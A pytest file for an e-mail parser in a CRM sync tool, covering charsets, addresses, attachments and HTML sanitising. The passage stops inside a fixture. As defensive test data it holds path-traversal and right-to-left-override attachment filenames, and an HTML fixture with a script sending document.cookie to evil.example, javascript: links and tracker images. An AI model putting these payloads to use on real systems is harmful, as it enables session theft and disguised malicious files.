"""Raw mail -> ParsedMessage, tested three ways:

- every message of the shared corpora (../shared/corpora, or $MAIL_CORPORA) parses or is refused
  with a ParseError and a reason, never another exception;
- imap_tools' expected values, for the fields where our semantics and theirs agree;
- hand-made messages for what the CRM relies on: thread ids, message keys, charsets, recipient
  counts, attachments and safe HTML.
"""

import hashlib
import json
import re
from collections import Counter
from datetime import UTC, datetime, timedelta, timezone
from email.message import EmailMessage

import pytest

from mailsync.mime import parsing
from mailsync.mime.parsing import (
    Address,
    ParseError,
    content_hash,
    extract_message_ids,
    html_to_text,
    message_key,
    parse_headers_only,
    parse_message,
)
from mailsync.views.html import sanitize_html
from tests.support.corpora import (  # noqa: E402
    corpora,
    corpus_file,
    corpus_messages,
    corpus_names,
    split_mbox,
)

# ---------------------------------------------------------------------------------------------
# Every corpus message parses, or is refused with a reason

SURROGATE_OR_NUL = re.compile("[\ud800-\udfff\x00]")
HEADER_FIELDS = ("message_id", "subject", "date", "from_", "sender", "reply_to", "to", "cc")


def invariant_problems(parsed, raw: bytes) -> list[str]:
    """What the rest of the product assumes about any ParsedMessage."""
    problems = []
    if parsed.size != len(raw):
        problems.append("size is not len(raw)")
    strings = [parsed.subject, parsed.text, parsed.html, parsed.message_id]
    strings += [value for values in parsed.headers.values() for value in values]
    if any(SURROGATE_OR_NUL.search(value) for value in strings):
        problems.append("a string with a lone surrogate or NUL (unstorable)")
    for address in parsed.participants:
        if not address.address or address.address != address.address.strip().lower():
            problems.append(f"address not normalised: {address.address!r}")
    if parsed.date is not None and parsed.date.tzinfo is None:
        problems.append("naive date")
    for attachment in parsed.attachments:
        name = attachment.filename
        if not name or len(name) > 255 or "/" in name or "\\" in name:
            problems.append(f"bad attachment filename {name!r}")
        if any(ord(char) < 32 or ord(char) == 127 for char in name):
            problems.append(f"control character in filename {name!r}")
        if attachment.size != len(attachment.payload):
            problems.append(f"attachment size mismatch for {name!r}")
        if attachment.content_type != attachment.content_type.lower() or (
            "/" not in attachment.content_type
        ):
            problems.append(f"bad content type {attachment.content_type!r}")
    if not message_key(parsed, raw).startswith(("mid:", "sha256:")):
        problems.append("bad message key")
    return problems


@pytest.mark.parametrize("corpus", corpus_names())
def test_every_corpus_message_parses_or_is_refused_with_a_reason(corpus):
    failures = []
    refused = Counter()
    for path, raw, row in corpus_messages(corpus):
        try:
            parsed = parse_message(raw)
        except ParseError as error:
            refused[error.reason] += 1
            if not error.reason:
                failures.append(f"{path}: ParseError without a reason")
            try:
                parse_headers_only(raw)
                failures.append(f"{path}: parse_headers_only accepted what parse_message refused")
            except ParseError:
                pass
            except Exception as error:  # noqa: BLE001 - the point is to catch everything
                failures.append(f"{path}: parse_headers_only raised {error!r}")
            continue
        except Exception as error:  # noqa: BLE001
            failures.append(f"{path}: parse_message raised {type(error).__name__}: {error}")
            continue
        if row["outlook_msg"] == "1":
            failures.append(f"{path}: an Outlook .msg file was not refused")
        failures += [f"{path}: {problem}" for problem in invariant_problems(parsed, raw)]
        try:
            headers_only = parse_headers_only(raw)
        except Exception as error:  # noqa: BLE001
            failures.append(f"{path}: parse_headers_only raised {type(error).__name__}: {error}")
            continue
        for name in HEADER_FIELDS:
            if getattr(headers_only, name) != getattr(parsed, name):
                failures.append(f"{path}: parse_headers_only disagrees on {name}")
        if headers_only.attachments or headers_only.text or headers_only.html:
            failures.append(f"{path}: parse_headers_only returned a body")
    assert not failures, f"{len(failures)} problem(s) in {corpus}:\n" + "\n".join(failures)
    # The only refusals in the corpora: Outlook .msg files, the empty member of an mbox, and
    # members without any header (dovecot-imaptest's one-line mbox messages).
    assert set(refused) <= {
        "not a MIME message (Outlook .msg file)",
        "empty message",
        "no header block: the data does not start with e-mail headers",
    }, refused


def test_outlook_msg_files_are_refused_with_their_own_reason():
    raw = corpus_file("simple-java-mail/test-messages/simple email with TO and CC.msg")
    with pytest.raises(ParseError) as caught:
        parse_message(raw)
    assert caught.value.reason == "not a MIME message (Outlook .msg file)"


# ---------------------------------------------------------------------------------------------
# imap_tools' expectations (imap_tools/expected.json)

# Where we deliberately differ from imap_tools, by (file, field):
IMAP_TOOLS_EXCLUSIONS = {
    # imap_tools drops the raw 8-bit bytes of the Subject; we decode them (UTF-8, then cp1252).
    ("messages/error_emails/invalid_subject_characters.eml", "subject"): "8-bit subject",
    # RFC 5322 unfolding keeps the space before a folded encoded word ("TEST =?...?="); imap_tools
    # (email.header.decode_header) drops it.
    ("messages/rfc2822/example14.eml", "subject"): "space kept when unfolding",
    # We read the obsolete "From  :" syntax (RFC 5322 section 4.5); imap_tools sees no header.
    ("messages/rfc2822/example13.eml", "from"): "obsolete header syntax",
    # "From: Big Bug bb@bug.com": imap_tools returns the whole string; we salvage the address.
    ("messages/plain_emails/mix_caps_content_type.eml", "from"): "address salvaged",
    # "Mikel@Lindsaar <raasdnil@gmail.com>": imap_tools makes two entries of one; we take the
    # <angle-bracketed> address.
    ("messages/plain_emails/raw_email_with_at_display_name.eml", "to"): "@ in a display name",
    # Entries that are not addresses ("" and "@mailman.enron.com", "<matmail>") are skipped.
    ("messages/error_emails/missing_body.eml", "to"): "unparseable entries skipped",
    ("messages/mime_emails/raw_email11.eml", "to"): "unparseable entries skipped",
    # Attachments. imap_tools lists only parts with a filename or a Content-ID (and walks into
    # attached messages); we list every non-body part: images without a name, the
    # message/delivery-status and text/rfc822-headers parts of reports, and an attached message
    # as one .eml named after its subject, its bytes as received (imap_tools re-folds them).
    ("messages/attachment_7bit.eml", "attachments"): "attached message re-folded",
    ("messages/attachment_emails/attachment_message_rfc822.eml", "attachments"): "walks into",
    ("messages/error_emails/missing_content_disposition.eml", "attachments"): "nameless image",
    (
        "messages/mime_emails/raw_email_with_mimepart_without_content_type.eml",
        "attachments",
    ): "report parts",
    ("messages/multipart_report_emails/multi_address_bounce1.eml", "attachments"): "report",
    ("messages/multipart_report_emails/multi_address_bounce2.eml", "attachments"): "report",
    ("messages/multipart_report_emails/multipart_report_multiple_status.eml", "attachments"): "",
    ("messages/multipart_report_emails/report_422.eml", "attachments"): "report parts",
    ("messages/multipart_report_emails/report_530.eml", "attachments"): "report parts",
    # A text/plain part with a Content-ID but no filename is the body for us, an attachment
    # for imap_tools.
    ("messages/text_with_content_id.eml", "attachments"): "text part with a Content-ID",
}


def imap_tools_comparable(parsed, expected: dict) -> dict[str, tuple]:
    """field -> (ours, theirs), in comparable form."""
    fields = {
        "subject": (parsed.subject, " ".join(expected["subject"].split())),
        "from": (
            parsed.from_[0].address if parsed.from_ else "",
            expected["from_"].strip().lower(),
        ),
        "to": ([a.address for a in parsed.to], [a.strip().lower() for a in expected["to"]]),
        "cc": ([a.address for a in parsed.cc], [a.strip().lower() for a in expected["cc"]]),
        "attachments": (
            [
                (a.filename, a.content_type, a.size, hashlib.sha256(a.payload).hexdigest())
                for a in parsed.attachments
            ],
            [
                (a["filename"], a["content_type"], a["payload"]["size"], a["payload"]["sha256"])
                for a in expected["attachments"]
            ],
        ),
    }
    # imap_tools leaves a part without a filename nameless; we name it ("attachment.jpg", or the
    # subject of an attached message + ".eml"). Compare everything else.
    ours, theirs = fields["attachments"]
    for index, (name, *rest) in enumerate(theirs):
        if not name and index < len(ours) and ours[index][0]:
            theirs[index] = (ours[index][0], *rest)
    if not expected["date"].startswith("1900-01-01"):  # imap_tools' "unparseable"
        theirs = datetime.fromisoformat(expected["date"])
        fields["date"] = (parsed.date, theirs if theirs.tzinfo else theirs.replace(tzinfo=UTC))
    return fields


def test_imap_tools_expectations_hold_where_our_semantics_agree():
    root = corpora() / "imap_tools"
    expectations = json.loads((root / "expected.json").read_text(encoding="utf-8"))
    assert len(expectations) == 113
    failures = []
    for path, expected in sorted(expectations.items()):
        try:
            parsed = parse_message((root / path).read_bytes())
        except ParseError as error:
            failures.append(f"{path}: refused ({error.reason})")
            continue
        for field, (ours, theirs) in imap_tools_comparable(parsed, expected).items():
            excluded = (path, field) in IMAP_TOOLS_EXCLUSIONS
            if ours != theirs and not excluded:
                failures.append(f"{path}: {field}: ours {ours!r} != imap_tools {theirs!r}")
            elif ours == theirs and excluded:
                failures.append(f"{path}: {field} agrees now: drop its exclusion")
    assert not failures, "\n".join(failures)


# ---------------------------------------------------------------------------------------------
# A few corpus messages with known content


def test_a_threaded_mailing_list_reply_points_at_its_parent():
    members = split_mbox(corpus_file("apache-mime4j/test-1/mbox.rlug"))
    assert len(members) == 5
    # The corpus ships the expected split: our members are those files.
    for index, member in enumerate(members):
        expected = corpus_file(f"apache-mime4j/test-1/mbox.rlug-{index}")
        assert content_hash(member) == content_hash(expected)
    question, reply = parse_message(members[0]), parse_message(members[3])
    assert question.message_id == "001401c2cec7$4eb5b460$941c10ac@ok6f6gr01ta4hv"
    assert reply.in_reply_to == [question.message_id]
    assert reply.references == [question.message_id]
    assert reply.subject == "Re: Din windows ma pot, din LINUX NU ma pot conecta (la ZAPP)"
    assert reply.from_ == [Address(name="", address="teo.55@home.ro")]
    assert reply.auto_submitted  # a list message: Precedence: list


def test_an_auto_reply_with_inline_images():
    parsed = parse_message(corpus_file("chatwoot/fixtures/files/auto_reply.eml"))
    assert parsed.auto_submitted  # X-Autoreply: yes
    assert not parsed.is_delivery_report
    assert parsed.message_id == "0CB459E0-0336-41DA-BC88-E6E28C697DDB@chatwoot.com"
    assert parsed.in_reply_to == ["4e6e35f5a38b4_479f13bb90078178@small-app-01.mail"]
    assert parsed.from_ == [Address(name="Sony Mathew", address="sony@chatwoot.com")]
    assert parsed.to == [Address(name="Replies", address="replies@example.com")]
    assert parsed.date == datetime(2020, 4, 20, 4, 20, 20, tzinfo=timezone(timedelta(hours=-4)))
    assert [(a.filename, a.content_id, a.inline) for a in parsed.attachments] == [
        ("avatar1.jpeg", "7AAEB353-2341-4D46-A054-5CA5CB2363B7", True),
        ("avatar2.jpg", "4594E827-6E69-4329-8691-6BC35E3E73A0", True),
    ]
    assert parsed.snippet == "Let's talk about these images:"


def test_a_delivery_status_notification_keeps_the_original_as_an_eml():
    parsed = parse_message(corpus_file("sisimai-set-of-emails/maildir/bsd/rfc3464-01.eml"))
    assert parsed.is_delivery_report and parsed.auto_submitted
    assert parsed.subject == "Returned mail: see transcript for details"
    assert parsed.from_[0].address == "mailer-daemon@smtpgw.example.jp"
    assert [(a.filename, a.content_type) for a in parsed.attachments] == [
        ("attachment.txt", "message/delivery-status"),
        ("バウンスメールのテスト(日本語).eml", "message/rfc822"),
    ]
    original = parse_message(parsed.attachments[1].payload)
    assert original.subject == "バウンスメールのテスト(日本語)"


def test_an_italian_pec_non_delivery_notice():
    parsed = parse_message(corpus_file("pec-java-pec-parser/resources/consegna.eml"))
    assert parsed.subject == "AVVISO DI MANCATA CONSEGNA: Test PEC"
    assert parsed.from_ == [Address(name="", address="posta-certificata@fakepec.it")]
    assert parsed.date == datetime(2024, 11, 15, 17, 21, 3, tzinfo=UTC)
    assert parsed.text.startswith("--Avviso di mancata consegna del messaggio--")
    assert '"rec@fakepec.it"' in parsed.text
    assert [a.filename for a in parsed.attachments] == ["daticert.xml"]
    assert not parsed.is_delivery_report  # a PEC receipt, not an RFC 3464 report


def test_an_italian_bulletin_with_inline_images_and_a_pdf():
    parsed = parse_message(corpus_file("spamscope-mail-parser/mails/mail_test_2"))
    assert parsed.subject == "Bollettino Meteorologico del 29/11/2015"
    assert "VALLE D'AOSTA" in parsed.text
    assert [(a.filename, a.inline, a.size) for a in parsed.attachments] == [
        ("intestazione.jpg", True, 9918),
        ("logometeo.jpg", True, 7321),
        ("Bollettino.pdf", False, 1089942),
    ]
    assert parsed.attachments[2].payload.startswith(b"%PDF")


# ---------------------------------------------------------------------------------------------
# Hand-made messages

ALICE = "Alice Rossi <alice@ourco.example>"


def build(
    *,
    subject: str | None = "Quote for Q3",
    sender: str = ALICE,
    to: str = "Bob Bianchi <bob@acme.example>",
    text: str = "Hello Bob,\nhere is the quote.\n",
    html: str | None = None,
    headers: dict | None = None,
    raw_headers: tuple[str, ...] = (),
    charset: str = "utf-8",
) -> EmailMessage:
    message = EmailMessage()
    message["From"] = sender
    message["To"] = to
    if subject is not None:
        message["Subject"] = subject
    message["Date"] = "Tue, 04 Mar 2025 10:15:00 +0100"
    for name, value in (headers or {}).items():
        message[name] = value
    message.set_content(text, charset=charset, cte="quoted-printable")
    if html is not None:
        message.add_alternative(html, subtype="html")
    message.raw_headers = raw_headers  # written in front by to_bytes(), exactly as given
    return message


def to_bytes(message: EmailMessage) -> bytes:
    prefix = "".join(f"{line}\n" for line in getattr(message, "raw_headers", ()))
    return prefix.encode("latin-1") + message.as_bytes()


def test_thread_ids_are_read_without_brackets_deduplicated_and_in_order():
    raw = to_bytes(
        build(
            headers={
                "Message-ID": "<Quote-42@OurCo.example>",
                "In-Reply-To": "<q41@acme.example> (Bob's message of Monday)",
            },
            raw_headers=(
                "References: <q40@ourco.example>\n <q41@acme.example>  <q40@ourco.example>",
            ),
        )
    )
    parsed = parse_message(raw)
    assert parsed.message_id == "Quote-42@OurCo.example"
    assert parsed.in_reply_to == ["q41@acme.example"]
    assert parsed.references == ["q40@ourco.example", "q41@acme.example"]
    assert message_key(parsed, raw) == "mid:quote-42@ourco.example"
    assert extract_message_ids("<a@b> junk <c@d>, <not an id> <e@f>") == ["a@b", "c@d", "e@f"]


def test_without_a_message_id_the_key_is_a_content_hash_stable_across_line_endings():
    lf = to_bytes(build())
    assert b"\r\n" not in lf
    crlf = lf.replace(b"\n", b"\r\n")
    parsed = parse_message(lf)
    assert parsed.message_id == ""
    key = message_key(parsed, lf)
    assert key == f"sha256:{content_hash(lf)}"
    assert message_key(parse_message(crlf), crlf) == key
    assert content_hash(crlf + b"\r\n\r\n  ") == content_hash(lf)
    assert content_hash(lf.replace(b"Bob,", b"Rob,")) != content_hash(lf)


def test_a_malformed_message_id_is_dropped_with_a_defect():
    raw = to_bytes(build(raw_headers=("Message-ID: not an id",)))
    parsed = parse_message(raw)
    assert parsed.message_id == ""
    assert "invalid Message-ID" in parsed.defects
    assert message_key(parsed, raw).startswith("sha256:")


@pytest.mark.parametrize(
    "encoded, decoded",
    [
        ("=?UTF-8?B?T2ZmZXJ0YSBwZXIgbCdhbm5vIOKAkyAyMDI1?=", "Offerta per l'anno – 2025"),
        ("=?iso-8859-1?Q?Preventivo_perch=E9_cos=EC?=", "Preventivo perché così"),
        ("Re: =?utf-8?q?Caf=C3=A9?= =?utf-8?q?_e_t=C3=A8?= ok", "Re: Café e tè ok"),
        # one multi-byte character split across two words, as some mailers do
        ("=?utf-8?b?8J+Y?= =?utf-8?b?gA==?=", "\U0001f600"),
        ("=?ks_c_5601-1987?B?vsiz58fPvLy/5A==?=", "안녕하세요"),
        ("=?x-unknown?Q?Citt=E0?=", "Città"),
        ("=?utf-8?B?broken base64***?=", "=?utf-8?B?broken base64***?="),
        ("  Too   many\tspaces  ", "Too many spaces"),
    ],
)
def test_encoded_word_subjects_are_decoded(encoded, decoded):
    parsed = parse_message(to_bytes(build(subject=None, raw_headers=(f"Subject: {encoded}",))))
    assert parsed.subject == decoded


def test_italian_text_in_iso_8859_1():
    text = "Buongiorno, le invio il preventivo.\nPerché è così caro? Città: Forlì.\n"
    raw = to_bytes(
        build(
            subject=None,
            text=text,
            charset="iso-8859-1",
            raw_headers=("Subject: =?ISO-8859-1?Q?Preventivo_per_Forl=EC?=",),
        )
    )
    assert b"iso-8859-1" in raw and "Forlì".encode() not in raw
    parsed = parse_message(raw)
    assert parsed.subject == "Preventivo per Forlì"
    assert parsed.text.replace("\r\n", "\n") == text


def test_italian_text_in_windows_1252_even_when_labelled_iso_8859_1():
    text = "Il prezzo è 1.200 € – “offerta” finale.\n"
    raw = to_bytes(build(text=text, charset="windows-1252"))
    assert parse_message(raw).text.replace("\r\n", "\n") == text
    # Outlook often writes windows-1252 bytes (€ = 0x80) under an ISO-8859-1 label.
    mislabelled = raw.replace(b"windows-1252", b"iso-8859-1")
    assert b"iso-8859-1" in mislabelled
    assert parse_message(mislabelled).text.replace("\r\n", "\n") == text


@pytest.mark.parametrize(
    "charset, body, expected",
    [
        ("ks_c_5601-1987", "안녕하세요".encode("cp949"), "안녕하세요"),
        ("utf8", "Perché".encode(), "Perché"),
        ("x-unknown", "Perché".encode("latin-1"), "Perché"),
        ("unknown-8bit", "Perché".encode(), "Perché"),
        ("no-such-charset", "Perché".encode("cp1252"), "Perché"),
        ("us-ascii", "Perché".encode(), "Perché"),  # mislabelled 8-bit text
        ("utf-8", b"Perch\xe9 \x81", "Perché \x81"),  # not UTF-8: latin-1 as a last resort
    ],
)
def test_unknown_and_wrong_charsets_fall_back_instead_of_raising(charset, body, expected):
    raw = (
        b"From: bob@acme.example\nSubject: charset\nMIME-Version: 1.0\n"
        b"Content-Type: text/plain; charset=" + charset.encode() + b"\n"
        b"Content-Transfer-Encoding: 8bit\n\n" + body + b"\n"
    )
    assert parse_message(raw).text.strip() == expected


def test_broken_transfer_encodings_do_not_raise():
    raw = (
        b"From: bob@acme.example\nSubject: broken\nMIME-Version: 1.0\n"
        b'Content-Type: multipart/mixed; boundary="b"\n\n'
        b"--b\nContent-Type: text/plain\nContent-Transfer-Encoding: base64\n\n"
        b"SGVsbG8gQWxpY2U=!!!%%%\nnot base64 at all ===\n"
        b"--b\nContent-Type: text/html\nContent-Transfer-Encoding: quoted-printable\n\n"
        b"<p>Caf=C3=A9 =ZZ broken=\n soft</p>\n"
        b'--b\nContent-Type: application/pdf; name="q.pdf"\nContent-Transfer-Encoding: base64\n\n'
        b"JVBERi0xLjQK*\n"
        b"--b\nContent-Type: text/plain\nContent-Transfer-Encoding: x-martian\n\nplain\n"
        b"--b--\n"
    )
    parsed = parse_message(raw)
    assert parsed.text.startswith("Hello Alice")
    assert "Café" in parsed.html
    assert [a.filename for a in parsed.attachments] == ["q.pdf"]
    assert parsed.attachments[0].payload.startswith(b"%PDF-1.4")


def test_101_recipients_are_counted_once_each():
    to = ", ".join(f"Contact {n} <contact{n}@acme.example>" for n in range(60))
    cc = ", ".join(f"contact{n}@ACME.example" for n in range(50, 101))  # 50..59 again
    raw = to_bytes(build(to=to, headers={"Cc": cc, "Bcc": "contact0@acme.example"}))
    parsed = parse_message(raw)
    assert len(parsed.to) == 60 and len(parsed.cc) == 51 and len(parsed.bcc) == 1
    assert len(parsed.recipients) == 101
    assert parsed.recipients[0] == Address(name="Contact 0", address="contact0@acme.example")
    assert parsed.recipients[-1].address == "contact100@acme.example"
    assert len(parsed.participants) == 102  # Alice as well
    assert parsed.participants[0] == Address(name="Alice Rossi", address="alice@ourco.example")


def test_addresses_are_normalised_and_unparseable_entries_skipped():
    raw = (
        b"From: =?utf-8?q?Jos=C3=A9_Garc=C3=ADa?= <Jose@Acme.Example>\n"
        b'To: "Bianchi, Bob" <BOB@acme.example>, undisclosed-recipients:;, <>, postmaster,\n'
        b" Mikel@Lindsaar <mikel@acme.example>, charlie@other.example (Charlie)\n"
        b"Reply-To: sales@acme.example\nSender: Assistant <assistant@acme.example>\n"
        b"Subject: people\n\nbody\n"
    )
    parsed = parse_message(raw)
    assert parsed.from_ == [Address(name="José García", address="jose@acme.example")]
    assert [a.address for a in parsed.to] == [
        "bob@acme.example",
        "mikel@acme.example",
        "charlie@other.example",
    ]
    assert parsed.to[0].name == "Bianchi, Bob"
    assert parsed.sender == Address(name="Assistant", address="assistant@acme.example")
    assert [a.address for a in parsed.participants] == [
        "jose@acme.example",
        "assistant@acme.example",
        "sales@acme.example",
        "bob@acme.example",
        "mikel@acme.example",
        "charlie@other.example",
    ]


@pytest.mark.parametrize(
    "to",
    [
        "bob@acme.example",
        "Bob Bianchi <Bob@Acme.Example>",
        "Bob<bob@acme.example>,  carol.x+tag@mail.acme.example ,\n\t<dan@acme.example>",
        "O'Brien Bob <bob@acme.example>, 'Carol' <carol@acme.example>",
        "J. Smith <j@acme.example>",  # obsolete phrase: the structured parser's business
        '"Bianchi, Bob" <bob@acme.example>, carol@acme.example (Carol)',
        "=?utf-8?q?Jos=C3=A9?= <jose@acme.example>",
        "Team: a@acme.example, b@acme.example;",
        "bob@acme.example, , carol@acme.example",
        "bob@@acme.example, Carol <carol@acme.example>",
        "Bob <bob.@acme.example>",
    ],
)
def test_simple_address_lists_read_as_the_structured_parser_reads_them(to, monkeypatch):
    raw = to_bytes(build(raw_headers=(f"To: {to}", f"Cc: {to}", f"Reply-To: {to}")))
    fast = parse_message(raw)
    monkeypatch.setattr(parsing, "_simple_address_list", lambda values: None)
    slow = parse_message(raw)
    assert (fast.to, fast.cc, fast.reply_to, fast.defects) == (
        slow.to,
        slow.cc,
        slow.reply_to,
        slow.defects,
    )


@pytest.mark.parametrize(
    "value, expected",
    [
        ("Tue, 04 Mar 2025 10:15:00 +0100", datetime(2025, 3, 4, 9, 15, tzinfo=UTC)),
        ("Tue, 4 Mar 2025 10:15:00", datetime(2025, 3, 4, 10, 15, tzinfo=UTC)),  # no zone
        ("Tue, 04 Mar 2025 10:15:00 -0000", datetime(2025, 3, 4, 10, 15, tzinfo=UTC)),
        ("4 Mar 25 10:15 EST", datetime(2025, 3, 4, 15, 15, tzinfo=UTC)),
        ("Tue, 17 Jul 2012 22:23:35.882 +0000", datetime(2012, 7, 17, 22, 23, 35, tzinfo=UTC)),
        ("<HR>", None),
        ("Wed, 15 Dec 2010 59:10 -0500", None),
        ("", None),
    ],
)
def test_dates_are_aware_or_none(value, expected):
    parsed = parse_message(to_bytes(build(raw_headers=(f"Date: {value}",), headers={})))
    # build() adds its own Date after ours: the first one counts.
    assert parsed.date == expected
    if parsed.date:
        assert parsed.date.tzinfo is not None


def test_a_missing_date_is_none():
    raw = b"From: bob@acme.example\nSubject: no date\n\nbody\n"
    assert parse_message(raw).date is None


def test_alternative_bodies_prefer_the_first_plain_and_html_and_attachments_stay_attachments():
    raw = (
        b"From: bob@acme.example\nSubject: parts\nMIME-Version: 1.0\n"
        b'Content-Type: multipart/mixed; boundary="outer"\n\n'
        b'--outer\nContent-Type: multipart/alternative; boundary="alt"\n\n'
        b"--alt\nContent-Type: text/plain; charset=utf-8\n\nfirst plain\n"
        b"--alt\nContent-Type: text/plain; charset=utf-8\n\nsecond plain\n"
        b"--alt\nContent-Type: text/html; charset=utf-8\n\n<p>first html</p>\n"
        b"--alt\nContent-Type: text/html; charset=utf-8\n\n<p>second html</p>\n"
        b"--alt--\n"
        b"--outer\nContent-Type: text/plain; charset=utf-8\n"
        b'Content-Disposition: attachment; filename="notes.txt"\n\nattached notes\n'
        b"--outer\nContent-Type: text/csv\nContent-Disposition: attachment\n\na,b\n"
        b"--outer\nContent-Type: message/rfc822\n\n"
        b"From: carol@acme.example\nSubject: Original offer\n\nforwarded body\n"
        b"--outer--\n"
    )
    parsed = parse_message(raw)
    assert parsed.text.strip() == "first plain"
    assert parsed.html.strip() == "<p>first html</p>"
    assert [(a.filename, a.content_type) for a in parsed.attachments] == [
        ("notes.txt", "text/plain"),
        ("attachment.csv", "text/csv"),
        ("Original offer.eml", "message/rfc822"),
    ]
    assert parsed.attachments[0].payload.strip() == b"attached notes"
    forwarded = parse_message(parsed.attachments[2].payload)
    assert forwarded.subject == "Original offer"
    assert forwarded.text.strip() == "forwarded body"


def test_an_html_only_message_gets_a_text_rendering():
    html = (
        "<html><head><title>x</title><style>p{color:red}</style></head><body>"
        "<p>Dear Bob,</p><p>the price is 1&nbsp;200&euro; &amp; VAT.<br>Regards</p>"
        "<script>alert(1)</script><ul><li>one</li><li>two</li></ul></body></html>"
    )
    raw = (
        b"From: alice@ourco.example\nSubject: html\nMIME-Version: 1.0\n"
        b"Content-Type: text/html; charset=utf-8\n\n" + html.encode()
    )
    parsed = parse_message(raw)
    assert parsed.html == html
    assert parsed.text == "Dear Bob,\n\nthe price is 1 200€ & VAT.\nRegards\n\n- one\n- two"
    assert parsed.snippet == "Dear Bob, the price is 1 200€ & VAT. Regards - one - two"
    assert html_to_text("") == ""


def test_the_snippet_is_short_and_collapsed():
    parsed = parse_message(to_bytes(build(text="word  \n\n " * 200)))
    assert len(parsed.snippet) <= 201 and "  " not in parsed.snippet
    assert parsed.snippet.endswith("…")


def test_attachment_filenames_are_decoded_and_sanitised():
    long_name = "preventivo-" + "x" * 300 + ".pdf"
    parts = [
        ("filename*=UTF-8''Offerta%20Citt%C3%A0.pdf", "application/pdf"),
        ('filename="=?utf-8?q?Listino_prezzi_=E2=82=AC.xlsx?="', "application/vnd.ms-excel"),
        ('filename="..\\\\..\\\\windows\\\\evil.exe"', "application/octet-stream"),
        ('filename="/etc/passwd"', "text/plain"),
        ('filename="invoice\u202egpj.exe"', "application/octet-stream"),
        ('filename="tab\there.pdf"', "application/pdf"),
        (f'filename="{long_name}"', "application/pdf"),
        ("", "application/pdf"),
        ("", "image/png"),
    ]
    body = b"".join(
        b"--b\nContent-Type: " + ctype.encode() + b"\n"
        b"Content-Disposition: attachment" + (b"; " + disp.encode() if disp else b"") + b"\n"
        b"Content-Transfer-Encoding: base64\n\naGVsbG8=\n"
        for disp, ctype in parts
    )
    raw = (
        b"From: bob@acme.example\nSubject: files\nMIME-Version: 1.0\n"
        b'Content-Type: multipart/mixed; boundary="b"\n\n' + body + b"--b--\n"
    )
    names = [a.filename for a in parse_message(raw).attachments]
    assert names[:6] == [
        "Offerta Città.pdf",
        "Listino prezzi €.xlsx",
        "evil.exe",
        "passwd",
        "invoicegpj.exe",
        "tabhere.pdf",
    ]
    assert len(names[6]) == 255 and names[6].endswith(".pdf")
    assert names[7:] == ["attachment.pdf", "attachment.png"]


def test_cid_images_referenced_from_html_are_inline():
    message = build(html='<p>Logo:</p><img src="cid:logo@ourco.example">')
    html_part = message.get_payload()[1]
    html_part.add_related(b"\x89PNG fake", "image", "png", cid="<logo@ourco.example>")
    message.add_attachment(b"\x89PNG other", "image", "png", filename="other.png")
    parsed = parse_message(to_bytes(message))
    logo, other = parsed.attachments
    assert (logo.content_id, logo.inline) == ("logo@ourco.example", True)
    assert logo.content_type == "image/png"
    assert logo.payload == b"\x89PNG fake" and logo.size == 9
    assert (other.filename, other.inline) == ("other.png", False)


def test_auto_submitted_and_delivery_reports():
    def flags(*headers, content_type="text/plain"):
        raw = "\n".join(["From: x@acme.example", f"Content-Type: {content_type}", *headers])
        parsed = parse_message(raw.encode() + b"\n\nbody\n")
        return parsed.auto_submitted, parsed.is_delivery_report

    assert flags() == (False, False)
    assert flags("Auto-Submitted: no") == (False, False)
    assert flags("Auto-Submitted: auto-replied (vacation)") == (True, False)
    assert flags("Precedence: bulk") == (True, False)
    assert flags("X-Autoreply: yes") == (True, False)
    report = 'multipart/report; report-type="delivery-status"; boundary="r"'
    assert flags(content_type=report) == (True, True)
    receipt = "multipart/report; report-type=disposition-notification; boundary=r"
    assert flags(content_type=receipt) == (True, False)


def test_deep_nesting_is_capped_not_fatal():
    levels = 300
    raw = b"From: bob@acme.example\nSubject: deep\nMIME-Version: 1.0\n"
    raw += b"".join(
        b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (n, n) for n in range(levels)
    )
    raw += b"Content-Type: text/plain\n\ndeep down\n"
    raw += b"".join(b"--b%d--\n" % n for n in reversed(range(levels)))
    parsed = parse_message(raw)
    assert parsed.subject == "deep"
    assert any("deeper than" in defect or "too deep" in defect for defect in parsed.defects)


@pytest.mark.parametrize(
    "raw, reason",
    [
        (b"", "empty message"),
        (b"\r\n \n", "empty message"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(50), "not a MIME message (Outlook .msg file)"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "no header block"),
        (b"%PDF-1.4\n%\xe2\xe3\n1 0 obj\n", "no header block"),
        (b"\nbody without headers\n", "no header block"),
    ],
)
def test_what_is_not_a_message_is_refused_with_a_reason(raw, reason):
    for parse in (parse_message, parse_headers_only):
        with pytest.raises(ParseError) as caught:
            parse(raw)
        assert caught.value.reason.startswith(reason)


def test_headers_only_reads_the_header_block_only():
    message = build(headers={"Message-ID": "<h1@ourco.example>", "Cc": "carol@acme.example"})
    message.add_attachment(b"x" * 1000, "application", "pdf", filename="big.pdf")
    raw = to_bytes(message)
    parsed = parse_headers_only(raw)
    assert parsed.message_id == "h1@ourco.example"
    assert [a.address for a in parsed.recipients] == ["bob@acme.example", "carol@acme.example"]
    assert parsed.size == len(raw)
    assert (parsed.text, parsed.html, parsed.attachments) == ("", "", [])
    assert parsed.headers["subject"] == ["Quote for Q3"]
    # A body that is not even valid MIME does not matter to it.
    assert parse_headers_only(raw + b"\n--garbage\x00\xff" * 10).subject == "Quote for Q3"


def test_headers_are_kept_lower_case_and_decoded():
    raw = to_bytes(
        build(
            subject="Caffè",
            raw_headers=("X-Custom: one", "x-custom: two", "Received: from a\n\tby b"),
        )
    )
    headers = parse_message(raw).headers
    assert headers["x-custom"] == ["one", "two"]
    assert headers["subject"] == ["Caffè"]
    assert headers["received"] == ["from a by b"]


# ---------------------------------------------------------------------------------------------
# HTML sanitising

HOSTILE_HTML = """<html><head><style>body{background:url(https://tracker.example/css.gif)}</style>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">
</head><body onload="steal()">
<script>document.location='https://evil.example/?c='+document.cookie</script>
<p style="color: red; position: fixed; background-image: url(https://tracker.example/bg.gif)">Hi
<b>Bob</b></p><p style="color: blue; position: fixed">Price list</p>
<a href="javascript:alert(1)">click</a> <a href=" JaVaScRiPt:alert(2)">again</a>
<a href="https://acme.example/offer" target="_self" onclick="x()">offer</a>
<img src="https://tracker.example/p.gif" onerror="alert(3)" width="1" height="1">
<img src="http://tracker.example/q.gif"><img src="cid:logo@ourco.example" alt="logo">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">
